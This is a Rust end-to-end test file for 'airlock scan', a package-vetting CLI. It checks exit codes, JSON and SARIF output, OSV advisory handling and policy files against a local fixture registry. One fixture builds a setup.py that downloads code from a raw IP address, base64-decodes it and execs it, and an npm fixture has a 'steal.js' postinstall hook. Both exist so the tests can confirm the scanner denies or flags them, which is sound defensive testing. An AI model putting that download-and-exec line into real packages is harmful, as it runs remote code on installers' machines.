//! `airlock scan` end to end, as a CI job runs it: the real binary against a fixture registry on
//! 127.0.0.1, with the exit codes and output formats a pipeline gates on.

mod common;

use common::archives::{self, TarEntry};
use common::registry::{Fault, FixtureRegistry};
use serde_json::{Value, json};

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

async fn scan(reg: &FixtureRegistry, args: &[&str]) -> Run {
    let cache = std::env::temp_dir().join(format!(
        "airlock-scan-cli-{}-{}",
        std::process::id(),
        reg.addr.port()
    ));
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
        .arg("scan")
        .args(args)
        .args([
            "--pypi-index",
            &format!("{}/simple/", reg.base()),
            "--npm-registry",
            &format!("{}/npm/", reg.base()),
        ])
        .arg("--cache-dir")
        .arg(&cache)
        .output()
        .await
        .expect("airlock runs");
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn json_of(run: &Run) -> Value {
    serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", run.stdout, run.stderr))
}

/// Real PyPA records kept in the repository (CC-BY 4.0, `tests/data/osv/NOTICE`).
fn osv() -> String {
    format!("{}/tests/data/osv/PyPI", env!("CARGO_MANIFEST_DIR"))
}

async fn registry() -> FixtureRegistry {
    let reg = FixtureRegistry::start().await;
    reg.add_wheel_with_metadata(
        "clean-pkg",
        "clean_pkg-1.0-py3-none-any.whl",
        archives::wheel("clean-pkg", "1.0", "def f():\n    return 1\n"),
        &archives::core_metadata("clean-pkg", "1.0"),
    );
    reg.add_pypi_file(
        "clean-pkg",
        "clean_pkg-1.0.tar.gz",
        archives::sdist("clean-pkg", "1.0"),
        Fault::default(),
        json!({}),
    );
    let evil_setup = "import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('http://45.61.139.22/p').read()))\nfrom setuptools import setup\nsetup()\n";
    reg.add_pypi_file(
        "evil-pkg",
        "evil_pkg-1.0.tar.gz",
        archives::tar_gz(&[
            TarEntry::file(
                "evil_pkg-1.0/PKG-INFO",
                archives::core_metadata("evil-pkg", "1.0").as_bytes(),
            ),
            TarEntry::file("evil_pkg-1.0/setup.py", evil_setup.as_bytes()),
        ]),
        Fault::default(),
        json!({}),
    );
    // A release of requests that PYSEC-2023-74 affects (introduced 2.3.0, fixed 2.31.0).
    reg.add_wheel_with_metadata(
        "requests",
        "requests-2.30.0-py3-none-any.whl",
        archives::wheel("requests", "2.30.0", ""),
        &archives::core_metadata("requests", "2.30.0"),
    );
    let tarball = archives::npm_tarball(
        r#"{"name":"widget","version":"1.0.0","license":"MIT","scripts":{"postinstall":"node steal.js"}}"#,
        "module.exports = 1;\n",
    );
    reg.add_npm_version("widget", "1.0.0", tarball, Fault::default(), json!({}));
    reg
}

#[tokio::test]
async fn a_clean_package_is_approved_with_exit_0() {
    let reg = registry().await;
    let run = scan(
        &reg,
        &[
            "pypi:clean-pkg==1.0",
            "--advisories",
            &osv(),
            "--output",
            "json",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let doc = json_of(&run);
    let p = &doc["packages"][0];
    assert_eq!(p["spec"], "pypi:clean-pkg==1.0");
    assert_eq!(p["decision"], "approved");
    assert_eq!(p["findings"], json!([]));
    assert_eq!(p["files"].as_array().map(Vec::len), Some(2));
}

/// Without advisory data nothing is approved unchecked: the default policy holds it (exit 2)
/// and says why; a policy that does not require the data approves it, saying so.
#[tokio::test]
async fn without_advisory_data_the_policy_decides_and_the_report_says_so() {
    let reg = registry().await;
    let run = scan(&reg, &["pypi:clean-pkg==1.0", "--output", "json"]).await;
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let doc = json_of(&run);
    let p = &doc["packages"][0];
    assert_eq!(p["decision"], "awaiting-approval");
    assert_eq!(p["findings"][0]["rule"], "advisories.unavailable");
    assert!(
        run.stderr.contains("known vulnerabilities are not checked"),
        "says what it did not check: {}",
        run.stderr
    );
    let dir = std::env::temp_dir().join(format!("airlock-scan-optional-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let lax = dir.join("lax.yaml");
    std::fs::write(&lax, "apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata:\n  name: lax\nspec:\n  advisories:\n    required: false\n").expect("write");
    let run = scan(
        &reg,
        &[
            "pypi:clean-pkg==1.0",
            "--policy",
            lax.to_str().expect("path"),
            "--output",
            "table",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("WITHOUT advisory data"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("advisories.unavailable"),
        "{}",
        run.stdout
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_malicious_setup_py_is_denied_with_exit_1_and_sarif() {
    let reg = registry().await;
    let run = scan(&reg, &["pypi:evil-pkg==1.0", "--output", "json"]).await;
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let doc = json_of(&run);
    let p = &doc["packages"][0];
    assert_eq!(p["decision"], "denied");
    let rules: Vec<&str> = p["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    for rule in [
        "heuristics.decode-exec",
        "heuristics.setup-network",
        "heuristics.raw-ip-url",
    ] {
        assert!(rules.contains(&rule), "{rule} in {rules:?}");
    }
    let decode = p["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|f| f["rule"] == "heuristics.decode-exec")
        .expect("decode-exec");
    assert_eq!(decode["severity"], "critical");
    assert_eq!(decode["file"], "evil_pkg-1.0.tar.gz!/evil_pkg-1.0/setup.py");
    assert_eq!(decode["line"], 2);

    let sarif = scan(&reg, &["pypi:evil-pkg==1.0", "--output", "sarif"]).await;
    assert_eq!(sarif.code, 1);
    let s = json_of(&sarif);
    assert_eq!(s["version"], "2.1.0");
    let results = s["runs"][0]["results"].as_array().expect("results");
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "heuristics.decode-exec"
                && r["level"] == "error"
                && r["locations"][0]["physicalLocation"]["region"]["startLine"] == 2)
    );
    let rule_ids: Vec<&str> = s["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|r| r["id"].as_str())
        .collect();
    assert!(
        results
            .iter()
            .all(|r| rule_ids.contains(&r["ruleId"].as_str().unwrap_or(""))),
        "every result's rule is declared"
    );
}

#[tokio::test]
async fn advisories_from_the_osv_database_drive_the_decision() {
    let reg = registry().await;
    let run = scan(
        &reg,
        &[
            "pypi:requests==2.30.0",
            "--advisories",
            &osv(),
            "--output",
            "json",
        ],
    )
    .await;
    let doc = json_of(&run);
    let p = &doc["packages"][0];
    let ids: Vec<&str> = p["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(ids.contains(&"PYSEC-2023-74"), "{ids:?}");
    assert_ne!(p["decision"], "approved");

    // A stricter policy denies; an exception for the advisory (by its CVE alias) lets it through.
    let dir = std::env::temp_dir().join(format!("airlock-scan-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let strict = dir.join("strict.yaml");
    std::fs::write(&strict, "apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata:\n  name: strict\nspec:\n  approvalMode: Automatic\n  advisories:\n    denySeverity: low\n").expect("write");
    let run = scan(
        &reg,
        &[
            "pypi:requests==2.30.0",
            "--advisories",
            &osv(),
            "--policy",
            strict.to_str().expect("path"),
        ],
    )
    .await;
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("DENIED") && run.stdout.contains("PYSEC-2023-74"),
        "{}",
        run.stdout
    );
    let excepted = dir.join("excepted.yaml");
    let ids_yaml: String = ids.iter().filter(|i| i.starts_with("PYSEC") || i.starts_with("GHSA") || i.starts_with("CVE")).map(|i| format!("    - id: {i}\n      packages: [requests]\n      reason: reviewed by secops\n      expires: \"2099-01-01T00:00:00Z\"\n")).collect();
    std::fs::write(&excepted, format!("apiVersion: airlock.dev/v1alpha1\nkind: ScanPolicy\nmetadata:\n  name: x\nspec:\n  approvalMode: Automatic\n  advisories:\n    denySeverity: low\n  exceptions:\n{ids_yaml}")).expect("write");
    let run = scan(
        &reg,
        &[
            "pypi:requests==2.30.0",
            "--advisories",
            &osv(),
            "--policy",
            excepted.to_str().expect("path"),
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("excepted"), "{}", run.stdout);
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn npm_manifest_confusion_and_install_scripts_need_a_human() {
    let reg = registry().await;
    let run = scan(&reg, &["npm:widget@1.0.0", "--output", "json"]).await;
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let doc = json_of(&run);
    let rules: Vec<&str> = doc["packages"][0]["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(
        rules.contains(&"heuristics.manifest-confusion")
            && rules.contains(&"heuristics.install-script"),
        "{rules:?}"
    );
    assert_eq!(doc["packages"][0]["decision"], "awaiting-approval");
}

#[tokio::test]
async fn errors_exit_3_and_local_files_are_scanned_as_they_are() {
    let reg = registry().await;
    let run = scan(&reg, &["pypi:no-such-package==1.0"]).await;
    assert_eq!(run.code, 3);
    assert!(run.stderr.contains("does not exist"), "{}", run.stderr);
    let run = scan(&reg, &["pypi:clean-pkg>=1"]).await;
    assert_eq!(run.code, 3);
    assert!(run.stderr.contains("pypi:NAME==VERSION"), "{}", run.stderr);

    let dir = std::env::temp_dir().join(format!("airlock-scan-local-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let wheel = dir.join("clean_pkg-1.0-py3-none-any.whl");
    std::fs::write(&wheel, archives::wheel("clean-pkg", "1.0", "x = 1\n")).expect("write");
    let run = scan(
        &reg,
        &[
            wheel.to_str().expect("path"),
            "--advisories",
            &osv(),
            "--output",
            "json",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(json_of(&run)["packages"][0]["name"], "clean_pkg");
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn the_osv_api_is_queried_when_configured() {
    let reg = registry().await;
    let record = std::fs::read(format!("{}/PYSEC-2023-74.json", osv())).expect("record");
    reg.route(
        "/osv/v1/querybatch",
        "application/json",
        serde_json::to_vec(&json!({"results": [{"vulns": [{"id": "PYSEC-2023-74", "modified": "2023-06-01T00:00:00Z"}]}]})).expect("json"),
        Fault::default(),
    );
    reg.route(
        "/osv/v1/vulns/PYSEC-2023-74",
        "application/json",
        record,
        Fault::default(),
    );
    let api = format!("{}/osv/", reg.base());
    let run = scan(
        &reg,
        &[
            "pypi:requests==2.30.0",
            "--osv-api",
            &api,
            "--output",
            "json",
        ],
    )
    .await;
    let doc = json_of(&run);
    let ids: Vec<&str> = doc["packages"][0]["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert_eq!(ids, vec!["PYSEC-2023-74"], "{}", run.stderr);
    assert_eq!(reg.hits("/osv/v1/querybatch"), 1);
    // Both the export and the API: still one finding.
    let run = scan(
        &reg,
        &[
            "pypi:requests==2.30.0",
            "--osv-api",
            &api,
            "--advisories",
            &osv(),
            "--output",
            "json",
        ],
    )
    .await;
    let doc = json_of(&run);
    let n = doc["packages"][0]["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|f| f["rule"] == "PYSEC-2023-74")
        .count();
    assert_eq!(n, 1);
}

/// GitHub's advisories for npm carry CVSS v4 vectors; one whose only score is a v4 vector is
/// scored from it (here Critical, though its `database_specific` word says LOW) and denies.
#[tokio::test]
async fn a_cvss_v4_only_advisory_is_scored_and_denies() {
    let reg = registry().await;
    let dir = std::env::temp_dir().join(format!("airlock-scan-cvss4-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let vector = "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N";
    let record = json!({
        "id": "GHSA-4444-4444-4444", "modified": "2026-01-01T00:00:00Z",
        "summary": "Remote code execution in gadget",
        "severity": [{"type": "CVSS_V4", "score": vector}],
        "database_specific": {"severity": "LOW"},
        "affected": [{"package": {"ecosystem": "npm", "name": "gadget"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.0.1"}]}]}]
    });
    std::fs::write(dir.join("GHSA-4444-4444-4444.json"), record.to_string()).expect("write");
    let advisories = dir.to_string_lossy().into_owned();
    // The affected release and the one that fixes it.
    let mut runs = Vec::new();
    for version in ["2.0.0", "2.0.1"] {
        reg.add_npm_version(
            "gadget",
            version,
            archives::npm_tarball(
                &json!({"name": "gadget", "version": version, "license": "MIT"}).to_string(),
                "module.exports = 2;\n",
            ),
            Fault::default(),
            json!({}),
        );
        let spec = format!("npm:gadget@{version}");
        runs.push(
            scan(
                &reg,
                &[&spec, "--advisories", &advisories, "--output", "json"],
            )
            .await,
        );
    }
    let (affected, fixed) = (&runs[0], &runs[1]);

    assert_eq!(
        affected.code, 1,
        "denied: {}{}",
        affected.stdout, affected.stderr
    );
    let doc = json_of(affected);
    let p = &doc["packages"][0];
    assert_eq!(p["decision"], "denied");
    let f = p["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|f| f["rule"] == "GHSA-4444-4444-4444")
        .unwrap_or_else(|| panic!("the advisory is a finding: {p}"));
    assert_eq!(f["severity"], "critical");
    let evidence = f["evidence"].as_str().unwrap_or_default();
    assert!(
        evidence.contains(&format!("[severity: CVSS-B 9.3 ({vector})]"))
            && evidence.contains("[fixed in: 2.0.1]"),
        "{evidence}"
    );
    // The fixed release is not affected.
    assert_eq!(fixed.code, 0, "approved: {}{}", fixed.stdout, fixed.stderr);
}

#[test]
fn the_help_explains_every_argument_and_the_exit_codes() {
    let help = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(args)
            .output()
            .expect("airlock runs");
        assert!(out.status.success(), "{args:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let scan = help(&["scan", "--help"]);
    assert!(
        scan.contains("Exit codes: 0 approved, 1 denied, 2 needs a human's approval, 3 error"),
        "{scan}"
    );
    assert!(scan.contains("SARIF for code-scanning"), "{scan}");
    for verb in ["approve", "deny"] {
        let text = help(&[verb, "--help"]);
        assert!(text.contains("The PackageRequest's name"), "{text}");
        assert!(text.contains("Its namespace"), "{text}");
        assert!(text.contains("Why: recorded"), "{text}");
        assert!(
            text.contains(&format!(
                "Usage: airlock {verb} [OPTIONS] --reason <REASON> <NAME>"
            )),
            "--reason is required in the usage: {text}"
        );
    }
    let controller = help(&["controller", "--help"]);
    assert!(
        controller.contains("The name of the leader-election Lease"),
        "{controller}"
    );
    // Every option of these commands has help after its name, on its line or the next (clap
    // moves help to the next line when the names are long).
    for text in [&scan, &controller] {
        let lines: Vec<&str> = text.lines().collect();
        for (i, line) in lines.iter().enumerate() {
            let option = line.trim_start();
            if !option.starts_with("--") {
                continue;
            }
            let same = option.split_once("  ").map_or("", |(_, h)| h.trim());
            let next = lines.get(i + 1).map_or("", |l| l.trim());
            assert!(
                !same.is_empty() || (!next.is_empty() && !next.starts_with('-')),
                "no help for: {line}"
            );
        }
    }
}

#[test]
fn usage_errors_exit_3_and_completions_cover_every_command() {
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(args)
            .output()
            .expect("airlock runs")
    };
    // 2 means "needs a human" to a CI gate; a typo must not read as that.
    for args in [
        &["scan"][..],
        &["scan", "--no-such-flag", "x"],
        &["approve", "x"],
        &["completions", "tcsh"],
    ] {
        let out = run(args);
        assert_eq!(
            out.status.code(),
            Some(3),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let bash = run(&["completions", "bash"]);
    assert!(bash.status.success());
    let script = String::from_utf8_lossy(&bash.stdout);
    assert!(script.contains("complete -F _airlock"), "{script}");
    for word in [
        "approve",
        "deny",
        "status",
        "scan",
        "dev",
        "--control-plane",
        "--reason",
    ] {
        assert!(script.contains(word), "{word} in the bash completions");
    }
    for shell in ["zsh", "fish"] {
        let out = run(&["completions", shell]);
        assert!(out.status.success() && !out.stdout.is_empty(), "{shell}");
    }
}
